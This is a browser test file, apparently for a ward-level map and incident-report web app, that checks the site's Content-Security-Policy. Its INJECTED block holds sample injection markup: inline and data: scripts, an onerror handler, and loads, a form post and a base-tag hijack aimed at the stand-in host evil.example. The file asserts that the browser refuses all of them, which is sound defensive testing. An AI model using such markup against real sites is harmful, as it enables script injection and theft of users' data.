"""The pages' Content-Security-Policy in a real browser: what was put into a page by others does not run."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Route, expect

from geo.database import Database
from tests import ward
from tests.browser.conftest import Opening, application, served

INJECTED = """
<script>document.documentElement.dataset.ran = "inline"</script>
<img src="data:," onerror="document.documentElement.dataset.ran = 'handler'">
<script src="data:text/javascript,document.documentElement.dataset.ran='data'"></script>
<script src="https://evil.example/x.js"></script>
<link rel="stylesheet" href="https://evil.example/x.css">
<p id="styled" style="position: fixed; inset: 0">x</p>
<iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/" id="away"><input name="phone"></form>
<base href="https://evil.example/">
</body>"""
KINDS = {
    "script-src-elem",
    "script-src-attr",
    "style-src-elem",
    "style-src-attr",
    "frame-src",
    "base-uri",
    "form-action",
}
WATCHING = """
window.refused = [];
document.addEventListener("securitypolicyviolation", (event) => window.refused.push(event.effectiveDirective));
"""


@pytest.fixture
async def address(copying: Any, template: str, tmp_path: Path) -> AsyncIterator[str]:
    async with copying(template) as url:
        database = Database(url)
        async with database.write() as connection:
            await ward.build(connection)
        await database.close()
        async with served(application(url, tmp_path)) as at:
            yield at


async def test_nothing_that_others_put_into_a_page_runs_loads_or_sends(opening: Opening) -> None:
    # Past a service worker, which would fetch the page by itself.
    expected = "Content Security Policy|evil.example|Refused|blocked by Playwright"
    page = (await opening("/offline", service_workers="block", expected=expected)).page

    async def injected(route: Route) -> None:
        answer = await route.fetch()
        await route.fulfill(response=answer, body=(await answer.text()).replace("</body>", INJECTED))

    failures: list[str | None] = []
    page.on("requestfailed", lambda request: failures.append(request.failure))
    await page.add_init_script(WATCHING)
    await page.route("**/report", injected)
    await page.goto("/report")
    await page.evaluate("document.getElementById('away').submit()")
    await page.evaluate("(document.body.append(Object.assign(document.createElement('script'), { textContent: '0' })))")
    refused = set(await page.evaluate("window.refused"))
    assert refused >= KINDS
    assert await page.evaluate("document.documentElement.dataset.ran ?? null") is None
    assert await page.evaluate("getComputedStyle(document.getElementById('styled')).position") == "static"
    assert page.url.endswith("/report")
    # The browser tells of requests that it refuses before they leave it.
    assert failures
    assert set(failures) == {"csp"}


async def test_a_page_stands_in_no_foreign_frame_but_the_map_made_for_it_does(opening: Opening, address: str) -> None:
    body = f'<iframe src="{address}/report"></iframe><iframe src="{address}/?embed"></iframe>'.encode()

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n" + body)
        await writer.drain()
        writer.close()

    async with await asyncio.start_server(answer, "127.0.0.1", 0) as elsewhere:
        site = f"http://localhost:{elsewhere.sockets[0].getsockname()[1]}/"
        watched = await opening("/offline", expected="frame-ancestors|localhost|chrome-error|refused")
        page = watched.page
        await page.goto(site)
        refused, shown = page.frames[1:]
        await expect(shown.locator("h1")).to_contain_text("Hòa Xuân")
        assert await refused.locator("h1").filter(has_text="Báo sự cố").count() == 0
